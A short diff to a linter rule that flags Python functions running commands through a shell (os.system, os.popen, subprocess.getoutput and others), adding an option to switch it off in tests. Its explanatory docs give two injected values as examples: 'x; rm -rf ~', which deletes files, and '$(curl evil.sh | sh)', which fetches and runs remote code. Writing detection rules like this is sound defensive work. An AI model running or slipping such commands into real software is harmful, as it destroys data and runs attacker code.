@@ -48,6 +48,7 @@ export default defineRule({
     bandit: 'B605',
     ruff: 'S605',
     fixable: true,
+    offInTests: true,
     docs: {
       what: 'Finds `os.system`, `os.popen` (and `popen2`/`popen3`/`popen4`), the Python 2 `popen2` and `commands` modules, `subprocess.getoutput` / `getstatusoutput` and `asyncio.create_subprocess_shell`: functions that always run their command through `/bin/sh` (or `cmd.exe`). A command built at run time is reported with high severity, a fixed literal command with low severity.',
       why: 'These functions pass the whole string to a shell, which interprets `;`, `|`, `&&`, `$(…)`, backticks and redirections. When any part of the string comes from a request, a file name or another program, an attacker who supplies `x; rm -rf ~` or `$(curl evil.sh | sh)` runs their own commands with the privileges of the Python process. There is no option to turn the shell off: the fix is to call a function that takes an argument list.',
